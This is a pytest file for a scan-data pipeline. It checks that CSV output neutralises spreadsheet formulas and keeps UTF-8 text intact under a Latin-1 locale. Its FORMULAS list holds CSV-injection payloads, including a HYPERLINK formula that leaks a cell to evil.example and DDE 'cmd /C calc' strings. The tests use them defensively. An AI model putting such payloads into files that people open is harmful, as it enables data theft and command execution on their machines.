"""Tables and texts on disk: UTF-8, and no formulas."""

import csv
import os
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest

from coala_kedro.datasets import OptionalTableDataset, ScanTableDataset, TableDataset
from coala_kedro.sources import read_pseudonyms
from coala_kedro.spreadsheet import harmless
from coala_kedro.statistics.paper import paper_figures

pytestmark = pytest.mark.slow

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"scanner")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
    "''@x",
]
TEXTS = [
    "SIEMENS SOMATOM",
    "a=b",
    "'quoted'",
    "",
    "two\nlines",
    "-5.5",
    "+3",
    "-1e-3",
    "-0.04 (-0.06 to +0.02)",
    "-36.4 to +30.3",
    "−0.5 mL",
]


def cells(path):
    with path.open(newline="", encoding="utf-8") as file:
        return [row[0] for row in csv.reader(file)]


@pytest.mark.parametrize("kind", [TableDataset, OptionalTableDataset])
def test_no_cell_is_a_formula_and_every_cell_comes_back(tmp_path, kind):
    columns = {"columns": ["scanner"]} if kind is OptionalTableDataset else {}
    dataset = kind(
        filepath=str(tmp_path / "table.csv"),
        load_args={"dtype": str, "na_values": []},
        **columns,
    )
    table = pd.DataFrame({"scanner": FORMULAS + TEXTS})
    dataset.save(table)
    heading, *written = cells(tmp_path / "table.csv")
    assert heading == "scanner"
    assert all(cell.startswith("'") for cell in written[: len(FORMULAS)])
    assert written[len(FORMULAS) :] == TEXTS
    assert list(dataset.load()["scanner"]) == [c.replace("\r", "\n") for c in table["scanner"]]


def test_numbers_headings_and_missing_values_stay_what_they_are(tmp_path):
    table = pd.DataFrame(
        {
            "bias_ml": [-1.5, 2.0],
            "n": [-1, 3],
            "=1+1": ["a", None],
            "mixed": [-0.25, "=2"],
            "small": pd.array([True, None], dtype="boolean"),
        }
    )
    dataset = TableDataset(filepath=str(tmp_path / "table.csv"))
    before = table.copy()
    dataset.save(table)
    pd.testing.assert_frame_equal(table, before)
    assert (tmp_path / "table.csv").read_text() == (
        "bias_ml,n,'=1+1,mixed,small\n-1.5,-1,a,-0.25,True\n2.0,3,,'=2,\n"
    )
    loaded = dataset.load()
    assert list(loaded) == list(table)
    np.testing.assert_array_equal(loaded["bias_ml"], table["bias_ml"])
    assert loaded["=1+1"].isna().tolist() == [False, True]


def test_a_scan_table_with_a_scanner_of_that_kind(tmp_path):
    row = {"scan_id": "0012", "patient_id": "12", "timepoint": "pre", "role": "test"}
    table = pd.DataFrame([row | {"acquired_on": "2020-02-01", "scanner": "=1+1"}])
    dataset = ScanTableDataset(filepath=str(tmp_path / "scans.csv"))
    dataset.save(table)
    assert "'=1+1" in (tmp_path / "scans.csv").read_text()
    pd.testing.assert_frame_equal(dataset.load(), table, check_dtype=False)


def test_folders_of_such_names_have_their_pseudonyms(tmp_path):
    table = pd.DataFrame({"found": ["=cmd()", "-a"], "scan_id": ["S1", "S2"]})
    harmless(table).to_csv(tmp_path / "pseudonyms.csv", index=False)
    assert read_pseudonyms(tmp_path / "pseudonyms.csv") == {"=cmd()": "S1", "-a": "S2"}


IN_LATIN_1 = """
import locale, re, sys
from importlib import resources
from pathlib import Path
import pandas as pd
from matplotlib.figure import Figure
from coala_kedro.datasets import FigureDataset, TableDataset, TextDataset
from coala_kedro.provenance import read_provenance, write_provenance
from coala_kedro.report.claim import claim_table
from coala_kedro.statistics.paper import paper_figures

folder, text = Path(sys.argv[1]), "Łódź − 3 ± 1 µm 東京"
assert locale.getpreferredencoding().upper().startswith("ISO"), locale.getpreferredencoding()
TextDataset(filepath=str(folder / "report.html")).save(text)
assert TextDataset(filepath=str(folder / "report.html")).load() == text
TableDataset(filepath=str(folder / "table.csv")).save(pd.DataFrame({"text": [text]}))
assert TableDataset(filepath=str(folder / "table.csv")).load()["text"][0] == text
write_provenance(folder / "provenance.json", {"text": text})
assert read_provenance(folder / "provenance.json") == {"text": text}
figure = Figure()
figure.text(0.5, 0.5, text)
FigureDataset(filepath=str(folder / "figure.png")).save(figure)
assert text in FigureDataset(filepath=str(folder / "figure.png")).load()
claim = (resources.files("coala_kedro.report") / "claim.csv").read_bytes().decode()
named = pd.DataFrame({"setting": re.findall(r"\\{(.+?)\\}", claim)}).assign(value=text)
print(ascii(claim_table(named, ("internal", "external")).to_csv() + paper_figures().to_csv()))
"""


@pytest.fixture(scope="session")
def latin_1(tmp_path_factory):
    """The environment of a login node whose locale is Latin-1."""
    locales = tmp_path_factory.mktemp("locales")
    place = locales / "en_US.ISO-8859-1"
    subprocess.run(["localedef", "-i", "en_US", "-f", "ISO-8859-1", str(place)], check=False)
    return os.environ | {"LOCPATH": str(locales), "LC_ALL": "en_US.ISO-8859-1"}


def test_text_is_utf_8_in_a_latin_1_locale(tmp_path, latin_1):
    (tmp_path / "script.py").write_text(IN_LATIN_1, encoding="utf-8")
    told = subprocess.run(
        [sys.executable, tmp_path / "script.py", tmp_path],
        env=latin_1 | {"PYTHONPATH": os.pathsep.join(path for path in sys.path if path)},
        capture_output=True,
        check=False,
    )
    assert told.returncode == 0, told.stderr.decode(errors="replace")[-2000:]
    assert told.stdout.decode().strip().endswith(ascii(paper_figures().to_csv())[1:])
    for name in ("report.html", "table.csv", "figure.svg"):
        assert "Łódź − 3 ± 1 µm 東京" in (tmp_path / name).read_text(encoding="utf-8")
